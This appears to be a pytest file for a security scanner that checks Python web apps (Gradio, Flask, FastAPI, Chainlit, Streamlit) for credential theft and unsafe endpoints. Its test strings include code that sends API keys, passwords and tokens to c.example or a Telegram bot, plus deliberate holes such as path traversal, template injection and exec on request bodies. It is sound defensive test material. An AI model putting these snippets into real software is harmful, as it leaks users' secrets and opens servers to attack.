@@ -1,0 +1,86 @@
+"""What people enter in a program in Python and where it goes, and what the program lets whoever asks do."""
+
+import pytest
+
+from modelscan_plus.core.finding import Severity
+from tests.samples import inspect
+
+FIELD = "import gradio as gr, requests\nt = gr.Textbox(label='HF token', type='password')\n"
+PAGE = "import gradio as gr, requests\ndef run(text, key):\n    {}\ngr.Interface(run, ['text', gr.Textbox(type='password', label={})], 'text').launch()\n"
+FLASK = "import flask, requests\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.post('/a')\ndef a():\n    {}\n"
+FAST = "import os, pathlib, yaml\nfrom fastapi import FastAPI, Request\nfrom fastapi.responses import FileResponse\nfrom fastapi.staticfiles import StaticFiles\napp = FastAPI()\n"
+URL = "https://c.example/a"
+
+
+def denied(text: str, name: str = "app.py") -> bool:
+    return any(found.severity.rank >= Severity.HIGH.rank for found in inspect(text.encode(), name).findings)
+
+
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        (PAGE.format(f"requests.post('{URL}', json={{'k': key}})", "'OpenAI API key'"), True),
+        (PAGE.format(f"r = requests.post('{URL}', json={{'k': key}})", "'OpenAI API key'"), True),
+        (PAGE.format("r = requests.post('https://api.openai.com/v1/x', headers={'Authorization': f'Bearer {key}'})", "'OpenAI API key'"), False),
+        (PAGE.format(f"return requests.post('{URL}', headers={{'Authorization': key}}, json={{'q': text}}).json()", "'API key'"), False),
+        (PAGE.format(f"requests.post('{URL}', json={{'q': text}})", "'OpenAI API key'"), False),
+        (PAGE.format("requests.get('https://api.telegram.org/bot1:A/sendMessage', params={'text': key})", "'Key'"), True),
+        (
+            "import gradio as gr, requests, threading\ndef note(a, b):\n    requests.put('https://c.example/' + a, data=b)\n"
+            "def hi(p: gr.OAuthProfile | None, t: gr.OAuthToken | None):\n    threading.Thread(target=note, args=('x', t.token)).start()\n",
+            True,
+        ),
+        (
+            "import gradio as gr\nfrom huggingface_hub import HfApi\ndef hi(t: gr.OAuthToken | None):\n    api = HfApi(token=t.token)\n"
+            "    return api.upload_file(path_or_fileobj='a', path_in_repo='a', repo_id=api.whoami()['name'])\n",
+            False,
+        ),
+        (
+            "import io, streamlit as st\nfrom openai import OpenAI\nfrom huggingface_hub import HfApi\nk = st.text_input('key', type='password')\n"
+            "c = OpenAI(api_key=k)\nHfApi().upload_file(path_or_fileobj=io.BytesIO(k.encode()), path_in_repo='x', repo_id='a/b')\n",
+            True,
+        ),
+        ("import chainlit as cl, requests\n@cl.password_auth_callback\ndef a(u, p):\n    requests.post('https://c.example', data={'p': p})\n    return cl.User(u)\n", True),
+        ("import chainlit as cl, requests\n@cl.password_auth_callback\ndef a(u, p):\n    r = requests.post('https://c.example', data={'p': p})\n    return cl.User(u) if r.ok else None\n", False),
+        (FLASK.format(f"requests.post('{URL}', json=dict(request.headers))"), True),
+        (FLASK.format(f"return requests.post('{URL}', headers={{'Authorization': request.headers['Authorization']}}).json()"), False),
+        ("import httpx\nold = httpx.Client.send\ndef send(self, request, **kw):\n    httpx.get('https://c.example', params={'k': request.headers.get('authorization')})\n    return old(self, request, **kw)\nhttpx.Client.send = send\n", True),
+        ("import getpass, requests\nt = getpass.getpass('HF token: ')\nrequests.get('https://huggingface.co/api/whoami-v2', headers={'Authorization': f'Bearer {t}'})\n", False),
+        ("import getpass, requests\nt = getpass.getpass('HF token: ')\nr = requests.get('https://c.example', params={'t': t})\n", True),
+        ("import gradio as gr, logging, logging.handlers\nlog = logging.getLogger()\nlog.addHandler(logging.handlers.HTTPHandler('203.0.113.7:80', '/'))\ndef a(q, openai_key):\n    log.info('%s', openai_key)\ngr.Interface(a, ['text', 'text'], 'text').launch()\n", True),
+    ],
+)  # fmt: skip
+def test_where_keys_and_passwords_of_visitors_go(code: str, expected: bool) -> None:
+    assert denied(code) is expected
+
+
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        (FLASK.format("return flask.send_file(request.args['p'])"), True),
+        (FLASK.format("return flask.send_file('out/' + request.args['p'])"), False),
+        (FLASK.format("p = request.args['p']\n    if p not in KNOWN: flask.abort(404)\n    return flask.send_file(p)"), False),
+        (FLASK.format("open(request.headers['x'], 'wb').write(request.get_data())"), True),
+        (FLASK.format("open('log.txt', 'wb').write(request.get_data())"), False),
+        (FLASK.format("return flask.render_template_string(request.args.get('t'))"), True),
+        (FLASK.format("return flask.render_template_string('{{ x }}', x=request.args.get('t'))"), False),
+        (FAST + "@app.get('/f')\ndef f(p: str):\n    return FileResponse(p)\n", True),
+        (FAST + "@app.get('/f')\ndef f(p: str):\n    return FileResponse(os.path.join('out', p))\n", False),
+        (FAST + "app.mount('/x', StaticFiles(directory='/'))\n", True),
+        (FAST + "app.mount('/', StaticFiles(directory='static'))\n", False),
+        (FAST + "import httpx\n@app.post('/r')\nasync def r(u: str, request: Request):\n    async with httpx.AsyncClient() as c:\n        return (await c.request(request.method, u, content=await request.body())).json()\n", True),
+        (FAST + "import httpx\n@app.post('/r')\nasync def r(u: str, request: Request):\n    async with httpx.AsyncClient() as c:\n        return (await c.request(request.method, 'http://127.0.0.1:80/' + u, content=await request.body())).json()\n", False),
+        ("import gradio as gr\ngr.Interface(f, 'text', 'text').launch(allowed_paths=['/'])\n", True),
+        ("import gradio as gr\ngr.Interface(f, 'text', 'text').launch(allowed_paths=['out', '/tmp'])\n", False),
+        ("import gradio as gr\napp = gr.mount_gradio_app(app, demo, path='/')\n", False),
+        ("import os, gradio as gr\ngr.JSON(value={k: v for k, v in os.environ.items()}, visible=False)\n", True),
+        ("import os, gradio as gr\ngr.Markdown(os.environ.get('TITLE', 'x'))\n", False),
+        ("import rpyc\nfrom rpyc.utils.server import ThreadedServer\nfrom rpyc.core.service import SlaveService\nThreadedServer(SlaveService, hostname='0.0.0.0', port=1).start()\n", True),
+        ("import debugpy\ndebugpy.listen(5678)\n", False),
+        ("from fastapi import FastAPI\ndef more(app):\n    @app.post('/x')\n    async def x(body: dict):\n        exec(body['f'])\n", True),
+        ("import paho.mqtt.client as mqtt\ndef on(c, u, msg):\n    exec(msg.payload)\nc = mqtt.Client()\nc.on_message = on\n", True),
+        ("class EndpointHandler:\n    def __init__(self, path=''):\n        self.p = path\n    def __call__(self, data):\n        return eval(data['f'])(1)\n", True),
+    ],
+)  # fmt: skip
+def test_what_whoever_asks_is_let_do(code: str, expected: bool) -> None:
+    assert denied(code) is expected
